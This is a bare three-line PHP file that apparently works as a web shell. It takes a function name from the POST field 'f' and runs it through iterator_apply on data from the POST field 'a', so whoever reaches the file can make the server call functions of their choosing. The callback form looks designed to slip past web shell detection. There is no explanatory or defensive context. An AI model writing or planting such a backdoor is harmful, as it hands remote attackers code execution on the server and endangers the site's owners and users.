<?php
$it = new ArrayIterator(array($_POST['a']));
iterator_apply($it, $_POST['f'], array($it));
